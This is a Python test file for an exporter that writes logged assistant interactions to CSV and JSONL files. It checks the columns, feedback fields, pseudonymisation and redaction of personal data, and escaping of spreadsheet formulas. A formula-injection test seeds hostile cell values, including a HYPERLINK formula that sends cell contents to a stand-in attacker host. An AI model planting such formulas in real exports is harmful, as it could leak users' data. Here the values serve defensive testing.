"""The raw `csv` and `jsonl` exports: every interaction, flat, with its latest feedback."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import orjson
import pytest

from exporters.formats.raw import COLUMNS
from gateway.store.base import Store
from tests.exporters.conftest import export
from tests.exporters.seed import chat, seed

FILES = {"csv": "interactions.csv", "jsonl": "interactions.jsonl"}
PERSONAL = ("Kari", "Nordmann", "kari@example.no", "912 34 567", "Hansen")


def read_rows(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".csv":
        with open(path, newline="", encoding="utf-8") as file:
            reader = csv.DictReader(file)
            assert tuple(reader.fieldnames or ()) == COLUMNS
            return list(reader)
    rows = [orjson.loads(line) for line in path.read_bytes().splitlines()]
    assert all(tuple(row) == COLUMNS for row in rows)
    return rows


def text(value: Any) -> str:
    """A cell as the CSV holds it: None is an empty cell, numbers their str()."""
    return "" if value is None else str(value)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
async def test_every_interaction_with_its_latest_feedback(
    store: Store, seeded: dict[str, str], tmp_path: Path, fmt: str
) -> None:
    result = await export(store, tmp_path / "out", fmt)
    assert list(result.data_files) == [FILES[fmt]]
    rows = {row["id"]: row for row in read_rows(result.files[FILES[fmt]])}
    # All traffic: failed and flagged rows too, nothing deduplicated.
    assert len(rows) == result.manifest["counts"]["records_written"] == 13
    modified = rows[seeded["modified"]]
    # Thumbed down first, then corrected: both fields, each its latest value.
    assert text(modified["feedback_thumbs"]) == "down"
    assert text(modified["feedback_outcome"]) == "modified"
    assert modified["feedback_correction"] == "Neck pain for 2 weeks after a car accident."
    assert modified["feedback_correction_type"] == "major_edit"
    assert text(modified["feedback_rating"]) == ""
    assert text(modified["feedback_events"]) == "2"
    assert modified["prompt"] == "Write the subjective."
    assert modified["answer"] == "Patient has neck pain."
    failed = rows[seeded["failed"]]
    assert (failed["status"], text(failed["http_status"])) == ("error", "502")
    assert text(failed["feedback_events"]) == "0"
    assert rows[seeded["truncated"]]["quality_flags"] == "truncated"
    assert text(rows[seeded["accepted"]]["feedback_rating"]) == "5"
    # The prompt is the last user message; the whole exchange is JSON text in a CSV cell, and
    # objects in JSON lines (never JSON text inside JSON).
    turn = rows[seeded["session_turn_2"]]
    assert (turn["prompt"], turn["answer"]) == ("And L5?", "The one below it.")
    request, response = turn["request"], turn["response"]
    if fmt == "csv":
        request, response = orjson.loads(request), orjson.loads(response)
    assert len(request["messages"]) == 4
    assert response["choices"][0]["finish_reason"] == "stop"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
async def test_personal_data_and_key_names_never_leave(
    store: Store, seeded: dict[str, str], tmp_path: Path, fmt: str
) -> None:
    result = await export(store, tmp_path / "out", fmt)
    content = result.files[FILES[fmt]].read_text(encoding="utf-8")
    for secret in (*PERSONAL, "secret-key-name", "api_key_name"):
        assert secret not in content
    rows = {row["id"]: row for row in read_rows(result.files[FILES[fmt]])}
    personal = rows[seeded["personal"]]
    assert "[PERSON_1]" in personal["prompt"] and "ICPC-2 L03" in personal["prompt"]
    tags = orjson.loads(personal["tags"]) if fmt == "csv" else personal["tags"]
    assert tags == {"clinic": "oslo", "patient_age": "40-49"}
    # Users and sessions are pseudonyms, still telling one user from another.
    assert personal["user"] not in ("", None, "kari@example.no")
    assert rows[seeded["session_turn_1"]]["user"] == rows[seeded["session_turn_2"]]["user"]


async def test_pandas_reads_both_files_alike(
    store: Store, seeded: dict[str, str], tmp_path: Path
) -> None:
    pd = pytest.importorskip("pandas")
    from_csv = pd.read_csv((await export(store, tmp_path / "c", "csv")).files[FILES["csv"]])
    jsonl = (await export(store, tmp_path / "j", "jsonl")).files[FILES["jsonl"]]
    from_jsonl = pd.read_json(jsonl, lines=True, dtype=False)
    for frame in (from_csv, from_jsonl):
        assert frame.shape == (13, len(COLUMNS))
        assert list(frame.columns) == list(COLUMNS)
        assert frame["status"].value_counts().to_dict() == {"success": 12, "error": 1}
        assert frame["feedback_events"].sum() == 12
        assert frame.groupby("requested_model")["cost_usd"].sum().round(6).to_dict() == {
            "other": 0.0001,
            "support": 0.0012,
        }
        modified = frame[frame["id"] == seeded["modified"]].iloc[0]
        assert modified["feedback_thumbs"] == "down"
        assert modified["feedback_events"] == 2


async def test_an_empty_selection_still_writes_the_header(store: Store, tmp_path: Path) -> None:
    result = await export(store, tmp_path / "out", "csv")
    path = result.files[FILES["csv"]]
    assert path.read_text(encoding="utf-8").strip() == ",".join(COLUMNS)


# What a spreadsheet would run as a formula, in the columns a client or a reviewer writes.
FORMULAS = {
    "prompt": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "answer": "@SUM(A1:A9)",
    "feedback_correction": "+1+1",
    "feedback_comment": "-2+3",
}
CONTROL = {"prompt": "\t=1+1", "answer": "\r=2"}


async def test_csv_cells_cannot_start_a_formula(store: Store, tmp_path: Path) -> None:
    ids = await seed(
        store,
        {
            "formulas": (
                {
                    "tags": {"@cmd": "1"},
                    "exchange": chat(FORMULAS["prompt"], FORMULAS["answer"]),
                },
                [
                    {
                        "correction": FORMULAS["feedback_correction"],
                        "comment": FORMULAS["feedback_comment"],
                    }
                ],
            ),
            "control": ({"exchange": chat(CONTROL["prompt"], CONTROL["answer"])}, []),
            "plain": ({"exchange": chat("Neck pain?", "Rest, then move.")}, []),
        },
    )
    csv_rows = read_rows((await export(store, tmp_path / "c", "csv")).files[FILES["csv"]])
    rows = {row["id"]: row for row in csv_rows}
    for column, value in FORMULAS.items():
        assert rows[ids["formulas"]][column] == "'" + value
    for column, value in CONTROL.items():
        assert rows[ids["control"]][column] == "'" + value
    plain = rows[ids["plain"]]
    assert (plain["prompt"], plain["answer"]) == ("Neck pain?", "Rest, then move.")
    assert plain["cost_usd"] == "0.0001"
    # The JSON lines keep the text as it was: only a spreadsheet runs formulas.
    jsonl = (await export(store, tmp_path / "j", "jsonl")).files[FILES["jsonl"]]
    as_json = {row["id"]: row for row in read_rows(jsonl)}
    assert as_json[ids["formulas"]]["prompt"] == FORMULAS["prompt"]
    # Analytics keys are client text too: tags here.
    analytics = (await export(store, tmp_path / "a", "analytics")).files["analytics.csv"]
    with open(analytics, newline="", encoding="utf-8") as file:
        keys = {row["key"] for row in csv.DictReader(file) if row["section"] == "tag"}
    assert keys == {"'@cmd=1"}
